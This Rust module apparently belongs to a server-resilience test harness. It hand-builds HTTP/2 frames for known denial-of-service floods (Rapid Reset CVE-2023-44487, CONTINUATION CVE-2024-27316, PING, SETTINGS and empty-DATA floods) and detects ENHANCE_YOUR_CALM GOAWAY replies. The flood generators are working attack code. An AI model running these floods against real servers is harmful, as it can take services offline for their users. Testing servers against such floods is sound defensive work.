//! HTTP/2 frames made by hand (RFC 9113, section 4.1): the crate `h2` sends none of the sequences that an attacker sends.

/// The first bytes of an HTTP/2 client (RFC 9113, 3.4), and an empty SETTINGS frame.
const HELLO: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const FRAME_HEADER_BYTES: usize = 9;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;

const ACK: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

const CANCEL: [u8; 4] = 8u32.to_be_bytes();
const ENHANCE_YOUR_CALM: [u8; 4] = 11u32.to_be_bytes();
/// INITIAL_WINDOW_SIZE = 65,535, which changes nothing.
const SETTING: [u8; 6] = [0, 4, 0, 0, 0xFF, 0xFF];

/// The frames of a flood.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Flood {
    /// HEADERS and RST_STREAM in bursts (CVE-2023-44487).
    RapidReset,
    /// HEADERS and RST_STREAM, few enough at a time that the server accepts each request first.
    PacedReset,
    /// HEADERS without END_HEADERS, and CONTINUATION without an end (CVE-2024-27316).
    Continuation,
    /// PING, whose answers are read (CVE-2019-9512).
    Ping,
    /// PING, and the answers are not read.
    UnreadPing,
    /// Answers to PING frames that the server did not send.
    PingAck,
    /// SETTINGS, whose answers are read (CVE-2019-9515).
    Settings,
    /// DATA without bytes (CVE-2019-9518).
    EmptyData,
}

/// The request that an attacker begins: a POST without credentials.
#[derive(Clone, Copy)]
pub(super) struct RequestHead {
    pub(super) path: &'static str,
    pub(super) content_type: &'static str,
}

impl RequestHead {
    /// The header block (RFC 7541): indexed `:method` POST and `:scheme` http, the rest as literals without indexing.
    fn block(self) -> Vec<u8> {
        let mut block = vec![0x83, 0x86];
        for (name, value) in
            [(&[0x04][..], self.path), (&[0x01], "localhost"), (b"\0\x0ccontent-type", self.content_type)]
        {
            block.extend(name);
            block.push(u8::try_from(value.len()).unwrap_or_default());
            block.extend(value.bytes());
        }
        block
    }

    /// The bytes of a client until its request's headers are complete, and the first byte of a DATA frame of 16 KiB.
    pub(super) fn with_open_body(self) -> Vec<u8> {
        let mut bytes = HELLO.to_vec();
        frame(&mut bytes, HEADERS, END_HEADERS, 1, &self.block());
        bytes.extend([0, 0x40, 0, DATA, 0, 0, 0, 0, 1]);
        bytes
    }

    /// The bytes of a client up to the middle of a HEADERS frame of 16 KiB.
    pub(super) fn cut_in_headers(self) -> Vec<u8> {
        let mut bytes = HELLO.to_vec();
        bytes.extend([0, 0x40, 0, HEADERS, END_HEADERS, 0, 0, 0, 1]);
        bytes.extend(self.block());
        bytes
    }
}

/// Appends a frame.
fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    bytes.extend(length.iter().skip(1));
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
}

/// The frames of one attacking connection.
pub(super) struct FloodFrames {
    flood: Flood,
    head: Vec<u8>,
    stream: u32,
}

impl FloodFrames {
    pub(super) fn new(flood: Flood, head: RequestHead) -> Self {
        Self { flood, head: head.block(), stream: 1 }
    }

    /// What the connection begins with.
    pub(super) fn begin(&self) -> Vec<u8> {
        let mut bytes = HELLO.to_vec();
        match self.flood {
            // Without END_HEADERS: CONTINUATION frames follow.
            Flood::Continuation => frame(&mut bytes, HEADERS, 0, 1, &self.head),
            Flood::EmptyData => frame(&mut bytes, HEADERS, END_HEADERS, 1, &self.head),
            _ => {}
        }
        bytes
    }

    /// Appends the next frames, about `count` of them. Returns their number.
    pub(super) fn append(&mut self, bytes: &mut Vec<u8>, count: u32) -> u64 {
        let mut appended = 0;
        while appended < count {
            appended += match self.flood {
                Flood::RapidReset | Flood::PacedReset => {
                    frame(bytes, HEADERS, END_HEADERS, self.stream, &self.head);
                    frame(bytes, RST_STREAM, 0, self.stream, &CANCEL);
                    self.stream += 2;
                    2
                }
                // A literal field without indexing: `x: y`.
                Flood::Continuation => one(bytes, CONTINUATION, 0, 1, b"\0\x01x\x01y"),
                Flood::Ping | Flood::UnreadPing => one(bytes, PING, 0, 0, &[7; 8]),
                Flood::PingAck => one(bytes, PING, ACK, 0, &[7; 8]),
                Flood::Settings => one(bytes, SETTINGS, 0, 0, &SETTING),
                Flood::EmptyData => one(bytes, DATA, 0, 1, &[]),
            };
        }
        appended.into()
    }
}

fn one(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> u32 {
    frame(bytes, kind, flags, stream, payload);
    1
}

/// Finds GOAWAY frames in what a server sends.
#[derive(Default)]
pub(super) struct GoawayReader {
    unread: Vec<u8>,
    /// Whether the server ended the connection with ENHANCE_YOUR_CALM.
    pub(super) is_calmed: bool,
}

impl GoawayReader {
    /// Reads the next bytes of the server.
    pub(super) fn push(&mut self, bytes: &[u8]) {
        self.unread.extend(bytes);
        while let Some(head) = self.unread.first_chunk::<FRAME_HEADER_BYTES>() {
            let &[high, middle, low, kind, ..] = head;
            let length = FRAME_HEADER_BYTES + usize::from(high) * 65_536 + usize::from(middle) * 256 + usize::from(low);
            let Some(payload) = self.unread.get(FRAME_HEADER_BYTES..length) else { return };
            // The last stream, then the error code (RFC 9113, 6.8).
            self.is_calmed |= kind == GOAWAY && payload.get(4..8) == Some(&ENHANCE_YOUR_CALM);
            self.unread.drain(..length);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const HEAD: RequestHead = RequestHead { path: "/p", content_type: "a/b" };

    #[test]
    fn a_rapid_reset_is_a_request_and_its_cancellation() {
        let (mut frames, mut bytes) = (FloodFrames::new(Flood::RapidReset, HEAD), Vec::new());
        assert_eq!(frames.append(&mut bytes, 3), 4);
        let block = b"\x83\x86\x04\x02/p\x01\x09localhost\0\x0ccontent-type\x03a/b";
        let pair = |stream: u8| {
            let headers = [&[0, 0, block.len() as u8, 1, 4, 0, 0, 0, stream], &block[..]].concat();
            [&headers[..], &[0, 0, 4, 3, 0, 0, 0, 0, stream, 0, 0, 0, 8]].concat()
        };
        assert_eq!(bytes, [pair(1), pair(3)].concat());
    }

    #[test]
    fn a_goaway_is_found_at_any_cut() {
        let mut answer = Vec::new();
        frame(&mut answer, SETTINGS, 0, 0, &SETTING);
        frame(&mut answer, GOAWAY, 0, 0, &[0, 0, 0, 1, 0, 0, 0, 11]);
        for cut in 0..answer.len() {
            let mut reader = GoawayReader::default();
            reader.push(&answer[..cut]);
            assert!(!reader.is_calmed);
            reader.push(&answer[cut..]);
            assert!(reader.is_calmed);
        }
    }
}
